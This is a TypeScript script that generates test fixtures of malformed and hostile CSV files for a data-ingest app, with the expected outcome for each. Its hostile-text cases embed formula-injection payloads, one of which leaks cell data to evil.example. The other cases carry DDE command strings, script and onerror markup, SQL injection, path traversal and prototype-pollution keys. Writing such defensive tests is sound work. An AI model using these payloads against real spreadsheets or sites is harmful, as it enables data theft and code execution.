/**
 * `npx tsx scripts/generate-bad-corpus.ts` writes test/fixtures/bad/: hostile and odd inputs for the
 * ingest (issue #9), one file per case, and NOTES.md (name — what it is — expected outcome).
 * Deterministic: no clock, no randomness (gzip mtime 0, fixed zip dates), so re-running changes nothing.
 * Every file is committed, the large ones too (the 1 MB cell, 5,000 columns), so the browser test
 * can upload them as they are.
 */
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync, zipSync } from 'fflate';

const OUT = fileURLToPath(new URL('../test/fixtures/bad/', import.meta.url));

export interface CorpusFile {
  name: string;
  /** What the file is, in a few words. */
  what: string;
  /** What the app must do with it. */
  outcome: string;
  bytes: Uint8Array;
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const lines = (...rows: string[]): string => rows.map((row) => `${row}\n`).join('');
const concat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
};
/** Latin-1 / Windows-1252 bytes for text whose characters are all below U+0100. */
const latin1 = (text: string): Uint8Array => Uint8Array.from([...text].map((char) => char.charCodeAt(0)));
const utf16le = (text: string): Uint8Array => {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    out[2 * i] = text.charCodeAt(i) & 0xff;
    out[2 * i + 1] = text.charCodeAt(i) >> 8;
  }
  return out;
};

const HEADER = 'order_id,customer_id,order_date,amount';
/** Three good orders: 2 customers, revenue 60.00. Most cases below start from these. */
const GOOD = ['1001,c1,2024-01-05,10.00', '1002,c2,2024-01-20,20.00', '1003,c1,2024-02-03,30.00'];
const good = (delimiter = ','): string => lines(HEADER, ...GOOD).replaceAll(',', delimiter);

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89]);
const ZIP_DATE = new Date(Date.UTC(2024, 0, 1));
const zipOf = (entries: Record<string, string>): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(entries).map(([name, text]) => [name, [utf8(text), { mtime: ZIP_DATE }]])), { level: 6 });
const gzipOf = (bytes: Uint8Array): Uint8Array => gzipSync(bytes, { mtime: 0, level: 6 });

function wideHeader(columns: number): string {
  const extra = Array.from({ length: columns - 4 }, (_, i) => `extra_${i + 1}`);
  return [HEADER, ...extra].join(',');
}
function wideRow(row: string, columns: number): string {
  return row + ','.repeat(columns - 4);
}

export function corpus(): CorpusFile[] {
  const file = (name: string, what: string, outcome: string, content: string | Uint8Array): CorpusFile => ({ name, what, outcome, bytes: typeof content === 'string' ? utf8(content) : content });
  const refused = 'refused with a message naming the file';
  return [
    // --- nothing to read -------------------------------------------------------------------------
    file('empty.csv', 'zero bytes', `${refused}: the file is empty`, ''),
    file('bom-only-utf8.csv', 'a UTF-8 byte order mark and nothing else', `${refused}: only a byte order mark`, Uint8Array.from([0xef, 0xbb, 0xbf])),
    file('bom-only-utf16le.csv', 'a UTF-16LE byte order mark and nothing else', `${refused}: only a byte order mark`, Uint8Array.from([0xff, 0xfe])),
    file('blank-lines-only.csv', 'newlines, spaces and a tab', `${refused}: only blank lines`, '\n\n   \n\t\n\r\n'),
    file('header-only.csv', 'the header row and no data', `${refused}: a header but no data rows`, lines(HEADER)),
    file('header-only-no-newline.csv', 'the header row without a final newline', `${refused}: a header but no data rows`, HEADER),
    file('only-delimiters.csv', 'rows of commas only', `${refused}: the file holds no rows`, lines(',,,', ',,,', ',,,')),
    // --- not text --------------------------------------------------------------------------------
    file('png-renamed.csv', 'a PNG image named .csv', `${refused}: looks like a PNG image`, PNG),
    file('jpeg-renamed.csv', 'JPEG magic bytes named .csv', `${refused}: looks like a JPEG image`, Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0])),
    file('pdf-renamed.csv', 'a PDF header named .csv', `${refused}: looks like a PDF document`, utf8('%PDF-1.4\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n')),
    file('xls-97-renamed.csv', 'an old Office compound file header', `${refused}: an old Excel 97–2003 file`, Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0])),
    file('zip-renamed.csv', 'a ZIP archive holding a CSV, named .csv', `${refused}: a ZIP archive, not an Excel workbook`, zipOf({ 'orders.csv': good() })),
    file('zip-truncated.xlsx', 'the first half of a ZIP archive named .xlsx', `${refused}: damaged ZIP or workbook`, zipOf({ '[Content_Types].xml': '<Types/>'.repeat(200), 'xl/workbook.xml': '<workbook/>'.repeat(200) }).subarray(0, 120)),
    file('gzip-damaged.csv.gz', 'gzip magic bytes followed by garbage', `${refused}: damaged gzip data`, Uint8Array.from([0x1f, 0x8b, 0x08, 0x00, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])),
    file('gzip-of-nothing.csv.gz', 'a valid gzip stream of zero bytes', `${refused}: the compressed file is empty`, gzipOf(new Uint8Array(0))),
    file('elf-program.csv', 'an ELF executable header', `${refused}: looks like a program`, Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0])),
    file('nul-bytes.csv', 'a good CSV with a NUL byte inside a value', `${refused}: a binary file (NUL bytes)`, utf8(lines(HEADER, '1001,c1\u0000,2024-01-05,10.00'))),
    file('html-page.csv', 'an HTML error page saved as .csv', `${refused}: no recognisable columns`, lines('<!doctype html>', '<html><head><title>502 Bad Gateway</title></head>', '<body><h1>502 Bad Gateway</h1></body></html>')),
    file('json-array.csv', 'a JSON array of orders named .csv', `${refused}: no recognisable columns`, lines('[', '  {"order_id": 1001, "customer_id": "c1", "order_date": "2024-01-05", "amount": 10},', '  {"order_id": 1002, "customer_id": "c2", "order_date": "2024-01-20", "amount": 20}', ']')),
    // --- delimiters, quotes, rows ----------------------------------------------------------------
    file('semicolon-delimited.csv', 'the three good orders separated by semicolons', '3 orders, 2 customers, revenue 60, no rejects', good(';')),
    file('tab-delimited.csv', 'the three good orders separated by tabs', '3 orders, 2 customers, revenue 60, no rejects', good('\t')),
    file('pipe-delimited.csv', 'the three good orders separated by pipes', '3 orders, 2 customers, revenue 60, no rejects', good('|')),
    file('colon-delimited.csv', 'colons as the separator (not one we read)', `${refused}: no recognisable columns`, good(':')),
    file('cr-only-line-ends.csv', 'old Mac line ends (CR only)', '3 orders, 2 customers, revenue 60, no rejects', good().replaceAll('\n', '\r')),
    file('crlf-trailing-delimiters.csv', 'CRLF line ends and a trailing comma on every row', '3 orders, 2 customers, revenue 60, no rejects', good().replaceAll('\n', ',\r\n')),
    file('blank-lines-between.csv', 'blank lines between and after the rows', '3 orders, 2 customers, revenue 60, no rejects', lines(HEADER, '', GOOD[0]!, '', '', GOOD[1]!, GOOD[2]!, '', '')),
    file('ragged-rows.csv', 'two rows short of fields, one with an extra filled field', '2 orders, 1 customer, revenue 40, 3 rows rejected (wrong number of fields)', lines(HEADER, GOOD[0]!, '1002,c2,2024-01-20', '1004,c3', '1005,c4,2024-02-10,5.00,surplus', GOOD[2]!)),
    file('every-row-ragged.csv', 'every data row has two fields', `${refused}: no row could be used`, lines(HEADER, '1001,c1', '1002,c2', '1003,c1')),
    file('unbalanced-quote-middle.csv', 'a quote opened in the second row and never closed', '1 order, 1 customer, revenue 10, 1 row rejected (the rest of the file is one field)', lines(HEADER, GOOD[0]!, '1002,"c2,2024-01-20,20.00', GOOD[2]!)),
    file('unbalanced-quote-last.csv', 'a quote opened in the last value and never closed', '3 orders, 2 customers, revenue 60, no rejects (the quote closes at the end of the file)', lines(HEADER, GOOD[0]!, GOOD[1]!, '1003,c1,2024-02-03,"30.00')),
    file('stray-quotes-inside-values.csv', 'quotes inside unquoted values (c"2, 2"0.00)', '2 orders, 2 customers, revenue 30 (c"2 is an id), 1 row rejected (unreadable amount)', lines(HEADER, GOOD[0]!, '1002,c"2,2024-01-20,20.00', '1003,c1,2024-02-03,3"0.00')),
    file('quoted-newlines-and-delimiters.csv', 'quoted values holding commas, quotes and newlines', '3 orders, 3 customers, revenue 60, no rejects', lines(HEADER, '1001,"Smith, Jane",2024-01-05,10.00', '1002,"line one', 'line two",2024-01-20,20.00', '1003,"say ""hi""",2024-02-03,30.00')),
    // --- size and shape --------------------------------------------------------------------------
    file('one-megabyte-cell.csv', 'a 1 MiB note in one row of a good file', '3 orders, 2 customers, revenue 60, no rejects', lines(`${HEADER},note`, `${GOOD[0]!},${'x'.repeat(1024 * 1024)}`, `${GOOD[1]!},`, `${GOOD[2]!},short`)),
    file('one-megabyte-line-no-delimiter.csv', '1 MiB of letters on one line, no delimiter, no newline', `${refused}: no recognisable columns`, 'a'.repeat(1024 * 1024)),
    file('five-thousand-columns.csv', 'a good file padded to 5,000 columns', `${refused}: 5000 columns, at most 2000`, lines(wideHeader(5000), ...GOOD.map((row) => wideRow(row, 5000)))),
    file('two-thousand-columns.csv', 'a good file padded to exactly 2,000 columns (the limit)', '3 orders, 2 customers, revenue 60, no rejects', lines(wideHeader(2000), ...GOOD.map((row) => wideRow(row, 2000)))),
    // --- headers ---------------------------------------------------------------------------------
    file('duplicate-headers.csv', 'the amount column twice (first 10/20/30, second 99)', '3 orders, 2 customers, revenue 60 (the first amount column), no rejects', lines(`${HEADER},amount`, ...GOOD.map((row) => `${row},99`))),
    file('blank-headers.csv', 'blank column names around the real ones', '3 orders, 2 customers, revenue 60, no rejects', lines(`,order_id,,customer_id,order_date,amount,`, ...GOOD.map((row) => `x,${row.replace(',', ',y,')},z`))),
    file('proto-headers.csv', 'extra columns named __proto__, constructor and prototype', '3 orders, 2 customers, revenue 60, no rejects; no prototype polluted', lines(`${HEADER},__proto__,constructor,prototype`, ...GOOD.map((row) => `${row},{"polluted":1},polluted,polluted`))),
    file('proto-headers-only.csv', 'only columns named __proto__, constructor and prototype', `${refused}: no recognisable columns`, lines('__proto__,constructor,prototype', 'a,b,c', 'd,e,f')),
    file('proto-channel-values.csv', 'a channel column whose values are __proto__, constructor, toString', '3 orders, 2 customers, revenue 60; the channel filter lists the three names', lines(`${HEADER},channel`, `${GOOD[0]!},__proto__`, `${GOOD[1]!},constructor`, `${GOOD[2]!},toString`)),
    file('bom-twice.csv', 'two UTF-8 byte order marks before the header', '3 orders, 2 customers, revenue 60, no rejects', concat(Uint8Array.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), utf8(good()))),
    file('headers-spaced-uppercase.csv', 'header names in capitals with spaces around them', '3 orders, 2 customers, revenue 60, no rejects', lines(' ORDER_ID , CUSTOMER_ID , ORDER_DATE , AMOUNT ', ...GOOD)),
    file('quoted-newline-in-header.csv', 'a header name with a newline inside quotes', '3 orders, 2 customers, revenue 60, no rejects', lines('order_id,"customer', 'id",order_date,amount', ...GOOD)),
    // --- hostile text ----------------------------------------------------------------------------
    file('formula-customer-ids.csv', 'customer ids that are spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3)', '4 orders, 4 customers, revenue 100, no rejects; exports neutralise them', lines(HEADER, '1001,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2024-01-05,10.00', "1002,+cmd|' /C calc'!A0,2024-01-20,20.00", '1003,@SUM(1+1)*cmd|\' /C calc\'!A0,2024-02-03,30.00', '1004,-2+3+cmd|\' /C calc\'!A0,2024-02-04,40.00')),
    file('formula-amounts.csv', 'amounts written as formulas (=10+0, @SUM(20), +30)', '1 order, 1 customer, revenue 30 (+30 is a number), 2 rows rejected (unreadable amount)', lines(HEADER, '1001,c1,2024-01-05,=10+0', '1002,c2,2024-01-20,@SUM(20)', '1003,c1,2024-02-03,+30')),
    file('script-tag-customer-ids.csv', 'customer ids holding <script> and <img onerror> markup', '3 orders, 2 customers, revenue 60; shown as text, never as HTML', lines(HEADER, '1001,<script data-evil>window.evil=1</script>,2024-01-05,10.00', '1002,<img src=x onerror="window.evil=1" data-evil>,2024-01-20,20.00', '1003,<script data-evil>window.evil=1</script>,2024-02-03,30.00')),
    file('rtl-override-customer-ids.csv', 'customer ids with right-to-left override and zero-width characters', '3 orders, 3 customers, revenue 60, no rejects', lines(HEADER, '1001,\u202Egnp.exe,2024-01-05,10.00', '1002,c\u200B2,2024-01-20,20.00', '1003,\u2067c3\u2069,2024-02-03,30.00')),
    file('sql-and-path-ids.csv', 'customer ids with SQL, path traversal and template syntax', '3 orders, 3 customers, revenue 60, no rejects', lines(HEADER, "1001,'; DROP TABLE orders;--,2024-01-05,10.00", '1002,../../etc/passwd,2024-01-20,20.00', '1003,${7*7}{{7*7}},2024-02-03,30.00')),
    file('emoji-and-combining-ids.csv', 'emoji, ZWJ sequences and combining marks in customer ids', '3 orders, 2 customers, revenue 60, no rejects', lines(HEADER, '1001,👩‍👩‍👧,2024-01-05,10.00', '1002,e\u0301\u0301\u0301,2024-01-20,20.00', '1003,👩‍👩‍👧,2024-02-03,30.00')),
    file('control-characters.csv', 'control characters (bell, escape, form feed) inside values', '3 orders, 2 customers, revenue 60, no rejects', lines(HEADER, '1001,c1\u0007,2024-01-05,10.00', '1002,\u001b[31mc2,2024-01-20,20.00', '1003,c1\u0007,2024-02-03,30.00')),
    file('survey-comments-hostile.csv', 'an NPS survey whose comments hold script tags, formulas and RTL overrides', 'a surveys file: 3 responses, no rejects; comments shown as text', lines('customer_id,submitted_at,nps_score,comment', 'c1,2024-01-10,9,<script data-evil>window.evil=1</script>', 'c2,2024-01-11,3,"=HYPERLINK(""http://evil.example"",""x"")"', 'c3,2024-01-12,10,\u202Eevil\u202C ok')),
    file('events-proto-stages.csv', 'a lifecycle events file whose stages are __proto__ and constructor', 'an events file: 3 events, no rejects', lines('customer_id,event_date,stage', 'c1,2024-01-01,__proto__', 'c2,2024-01-02,constructor', 'c3,2024-01-03,lead')),
    file('spend-hostile-channels.csv', 'a marketing spend file whose channels are markup and __proto__', 'a spend file: 2 rows, no rejects', lines('month,channel,spend', '2024-01,<b data-evil>ads</b>,100', '2024-02,__proto__,50')),
    // --- odd values ------------------------------------------------------------------------------
    file('year-0001-dates.csv', 'one order dated 0001-01-01 among good ones', '3 orders, 2 customers, revenue 60, 1 row rejected (date out of range)', lines(HEADER, ...GOOD, '1004,c3,0001-01-01,40.00')),
    file('year-9999-dates.csv', 'one order dated 9999-12-31 among good ones', '3 orders, 2 customers, revenue 60, 1 row rejected (date out of range)', lines(HEADER, ...GOOD, '1004,c3,9999-12-31,40.00')),
    file('only-far-dates.csv', 'every order dated in year 1 or 9999', `${refused}: no date could be read`, lines(HEADER, '1001,c1,0001-01-01,10.00', '1002,c2,9999-12-31,20.00')),
    file('placeholder-1900-date.csv', 'one order dated 1900-01-01 (a placeholder) among 2024 orders', '4 orders, 3 customers, revenue 100, no rejects; 125 years of cohorts computed without a hang', lines(HEADER, ...GOOD, '1004,c3,1900-01-01,40.00')),
    file('impossible-dates.csv', '2024-02-30, 2023-02-29 and 2024-13-01', '1 order, 1 customer, revenue 10, 3 rows rejected (unreadable date)', lines(HEADER, GOOD[0]!, '1002,c2,2024-02-30,20.00', '1003,c1,2023-02-29,30.00', '1004,c3,2024-13-01,40.00')),
    file('amount-1e308.csv', 'amounts of 1e308 and -1e308 (sums overflow)', '2 orders, 2 customers, revenue 30, 2 rows rejected (unreadable amount)', lines(HEADER, '1001,c1,2024-01-05,1e308', GOOD[1]!, '1003,c1,2024-02-03,1e308', '1004,c3,2024-02-04,10.00')),
    file('amount-nan-infinity.csv', 'amounts NaN, Infinity, -Infinity and 1e999', '1 order, 1 customer, revenue 10, 4 rows rejected (unreadable amount)', lines(HEADER, GOOD[0]!, '1002,c2,2024-01-20,NaN', '1003,c1,2024-02-03,Infinity', '1004,c3,2024-02-04,-Infinity', '1005,c4,2024-02-05,1e999')),
    file('excel-error-values.csv', 'Excel error values (#VALUE!, #N/A, #REF!) in amount and date', '1 order, 1 customer, revenue 10, 3 rows rejected', lines(HEADER, GOOD[0]!, '1002,c2,2024-01-20,#VALUE!', '1003,c1,#REF!,30.00', '1004,c3,2024-02-04,#N/A')),
    file('zero-amounts.csv', 'three orders of 0.00', '3 orders, 2 customers, revenue 0, no rejects', lines(HEADER, ...GOOD.map((row) => row.replace(/,[\d.]+$/, ',0.00')))),
    file('refunds-only.csv', 'only refunds (negative amounts)', 'loaded: 0 orders (refunds are not purchases), revenue −60', lines(HEADER, ...GOOD.map((row) => row.replace(/,([\d.]+)$/, ',-$1')))),
    file('guests-only.csv', 'every row without a customer id', `${refused}: none of the rows could be used (no customer id)`, lines(HEADER, '1001,,2024-01-05,10.00', '1002,,2024-01-20,20.00', '1003,,2024-02-03,30.00')),
    file('every-amount-unreadable.csv', 'every amount is words', `${refused}: none of the rows could be used`, lines(HEADER, '1001,c1,2024-01-05,ten', '1002,c2,2024-01-20,twenty', '1003,c1,2024-02-03,thirty')),
    file('every-date-unreadable.csv', 'every date is words', `${refused}: no date could be read`, lines(HEADER, '1001,c1,yesterday,10.00', '1002,c2,soon,20.00', '1003,c1,never,30.00')),
    file('amounts-with-words.csv', 'amounts like "USD 10", "20 dollars", "about 30"', '1 order, 1 customer, revenue 10 (USD 10), 2 rows rejected (unreadable amount)', lines(HEADER, '1001,c1,2024-01-05,USD 10', '1002,c2,2024-01-20,20 dollars', '1003,c1,2024-02-03,about 30')),
    // --- encodings -------------------------------------------------------------------------------
    file('mixed-encodings.csv', 'UTF-8 é in one row, a Windows-1252 é byte in the next', '3 orders, 3 customers (cafÃ© and café differ), revenue 60', concat(utf8(lines(HEADER, '1001,café,2024-01-05,10.00')), latin1(lines('1002,café,2024-01-20,20.00')), utf8(lines(GOOD[2]!)))),
    file('mixed-encodings-late.csv', '70 KB of UTF-8 with a Windows-1252 byte after the first 64 KiB', 'loaded, read in a Windows code page (a note says so)', concat(utf8(lines(`${HEADER},note`, ...Array.from({ length: 1400 }, (_, i) => `${2000 + i},c${i % 50},2024-01-${String((i % 28) + 1).padStart(2, '0')},1.00,${'é'.repeat(20)}`))), latin1(lines('9999,cé,2024-03-01,1.00,x')))),
    file('utf16le-no-bom-odd-length.csv', 'UTF-16LE text without a BOM, cut in the middle of a character', '3 orders, 2 customers, revenue 60, 1 row rejected (the cut last character)', concat(utf16le(good()), Uint8Array.from([0x41]))),
    file('utf8-invalid-sequences.csv', 'a byte sequence that is not UTF-8 nor sensible Windows-1252 (C0 80, F8)', 'loaded in a Windows code page: 3 orders, revenue 60', concat(utf8(lines(HEADER)), latin1('1001,c1\u00c0\u0080\u00f8,2024-01-05,10.00\n'), utf8(lines(GOOD[1]!, GOOD[2]!)))),
  ];
}

function main(): void {
  mkdirSync(OUT, { recursive: true });
  for (const name of readdirSync(OUT)) rmSync(join(OUT, name));
  const files = corpus();
  const notes = ['# Bad and odd inputs (issue #9)', '', 'Written by `npx tsx scripts/generate-bad-corpus.ts`; the expected outcomes are checked by', '`test/unit/reliability/badCorpus.test.ts` (ingest and every metric) and `test/e2e/bad-corpus.test.ts` (upload in Chromium).', '', 'File — what it is — expected outcome', ''];
  for (const { name, what, outcome, bytes } of files) {
    writeFileSync(join(OUT, name), bytes);
    notes.push(`- ${name} — ${what} — ${outcome}`);
  }
  writeFileSync(join(OUT, 'NOTES.md'), `${notes.join('\n')}\n`);
  console.log(`${files.length} files written to ${OUT}`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
